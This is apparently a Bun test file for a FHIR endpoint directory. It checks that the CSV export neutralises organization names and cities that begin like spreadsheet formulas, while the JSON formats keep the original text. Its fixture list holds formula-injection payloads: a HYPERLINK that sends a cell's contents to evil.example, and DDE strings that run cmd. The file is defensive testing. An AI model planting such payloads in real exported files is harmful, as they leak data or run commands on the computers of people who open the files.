/**
 * A real server (`bun src/index.ts`) on a database whose organization names and cities start
 * like spreadsheet formulas: the CSV export puts a `'` in front of such cells (read back by
 * csv-parse, a CSV reader we did not write); NDJSON, FHIR and the list keep the published text.
 */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { rmSync } from "node:fs";
import { dirname } from "node:path";
import { parse } from "csv-parse/sync";
import { VENDORS } from "../support/fixture";
import { seedDatabase, tempDbPath } from "../support/seed";
import { type ServerProcess, startServer } from "../support/server-process";

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-1+1",
  "\tTabbed Clinic",
  "\rCarriage Clinic",
];

let path: string;
let server: ServerProcess;

beforeAll(async () => {
  path = tempDbPath();
  const db = seedDatabase(path, {
    vendors: VENDORS,
    entries: FORMULAS.map((text, i) => ({
      vendorId: "meditech",
      url: `https://fhir.formula${i}.example/r4`,
      organizationName: text,
      city: text,
      state: "VT",
      zipCode: "05401",
      fhirVersion: "R4",
      access: ["provider"],
      status: "verified",
    })),
    at: "2026-11-21T09:00:00.000Z",
  });
  db.sqlite.close();
  server = await startServer({ DATABASE_PATH: path, RATE_LIMIT_MAX: "0" });
}, 60_000);

afterAll(async () => {
  await server?.stop();
  rmSync(dirname(path), { recursive: true, force: true });
});

const text = async (query: string) => {
  const response = await fetch(`${server.baseUrl}/api/v1/export?${query}`);
  expect(response.status).toBe(200);
  return response.text();
};

test("CSV: a cell starting with = + - @ tab or CR gets a ' in front; a CSV reader sees the text after it", async () => {
  const rows = parse(await text("format=csv"), { columns: true, relax_column_count: false }) as Record<
    string,
    string
  >[];
  expect(rows.length).toBe(FORMULAS.length);
  expect(rows.map((row) => row.organizationName).sort()).toEqual(FORMULAS.map((formula) => `'${formula}`).sort());
  expect(rows.map((row) => row.city).sort()).toEqual(FORMULAS.map((formula) => `'${formula}`).sort());
  // The other cells are as they were: no ' in front of ordinary text.
  expect(rows.every((row) => row.state === "VT" && row.url!.startsWith("https://"))).toBe(true);
});

test("NDJSON, FHIR and the list keep the published text", async () => {
  const lines = (await text("format=ndjson"))
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line) as { organizationName: string; city: string });
  expect(lines.map((line) => line.organizationName).sort()).toEqual([...FORMULAS].sort());
  expect(lines.map((line) => line.city).sort()).toEqual([...FORMULAS].sort());

  const bundle = JSON.parse(await text("format=fhir")) as {
    entry: { resource: { resourceType: string; name?: string; address?: { city: string }[] } }[];
  };
  const organizations = bundle.entry.map((e) => e.resource).filter((r) => r.resourceType === "Organization");
  expect(organizations.map((o) => o.name).sort()).toEqual([...FORMULAS].sort());
  expect(organizations.map((o) => o.address?.[0]?.city).sort()).toEqual([...FORMULAS].sort());

  const list = (await (await fetch(`${server.baseUrl}/api/v1/endpoints?limit=100`)).json()) as {
    data: { organizationName: string }[];
  };
  expect(list.data.map((record) => record.organizationName).sort()).toEqual([...FORMULAS].sort());
});
